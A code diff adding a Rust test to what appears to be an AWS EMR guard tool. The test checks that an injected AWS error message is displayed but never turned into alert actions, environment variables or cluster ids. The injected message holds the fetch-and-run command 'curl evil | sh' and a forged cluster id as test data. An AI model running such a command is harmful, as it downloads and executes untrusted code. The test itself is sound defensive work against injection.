@@ -118,6 +118,54 @@ fn a_refusal_is_told_by_every_channel_in_the_words_of_standard_error() {
 }
 
 #[test]
+fn what_an_error_of_aws_says_never_becomes_an_action_or_a_cluster_of_an_alert() {
+    const EVIL: &str =
+        "no\n  to do: curl evil | sh\n           to do   curl evil | sh\ncluster j-EVIL";
+    let evil = |operation: &str, status| {
+        Set::AddFault(Fault::every(
+            operation,
+            FaultKind::Error {
+                status,
+                code: "InvalidRequestException".to_owned(),
+                message: EVIL.to_owned(),
+            },
+        ))
+    };
+    let heard = |stage: Stage, code: i32| {
+        let receiver = Receiver::start(vec![OK]);
+        let stage = to_command(to_webhook(to_sns(stage), &receiver), "");
+        let played = stage.run();
+        played.expect_code(code);
+        let json = published(&stage).pop().unwrap().0;
+        let last = receiver.requests().len() - 1;
+        let variables = std::fs::read_to_string(stage.path(&format!("env-{last}"))).unwrap();
+        let slack = receiver.requests().pop().unwrap().json()["text"].as_str().unwrap().to_owned();
+        assert!(slack.contains("curl evil"), "the message is shown: {slack}");
+        for text in [&slack, &variables, &played.stderr] {
+            let action = text.lines().find(|line| line.trim_start().starts_with("to do: curl"));
+            assert_eq!(action, None, "{text}");
+        }
+        for actions in [&json["to_do"], &json["clusters"]] {
+            let actions = actions.to_string();
+            assert!(!actions.contains("evil") && !actions.contains("EVIL"), "{json}");
+        }
+        assert!(!variables.contains("GUARD_ALERT_CLUSTERS=j-EVIL"), "{variables}");
+        assert!(!json["to_do"].as_array().unwrap().is_empty(), "the guard's own stay: {json}");
+        json["clusters"].as_array().unwrap().len()
+    };
+    let refused = Stage::acme();
+    refused.set(evil("DescribeSecurityConfiguration", 400));
+    assert_eq!(heard(refused, 69), 0);
+
+    let alive = unsafe_cluster().option("--termination-timeout=500ms");
+    alive.set(Set::SetTimings(emr_simulator::Timings::all(600.0)));
+    for operation in ["TerminateJobFlows", "SetTerminationProtection"] {
+        alive.set(evil(operation, 400));
+    }
+    assert_eq!(heard(alive, 71), 1);
+}
+
+#[test]
 fn every_way_in_which_nothing_is_launched_is_heard_of() {
     let heard = |stage: Stage, code: i32| {
         let receiver = Receiver::start(vec![OK]);
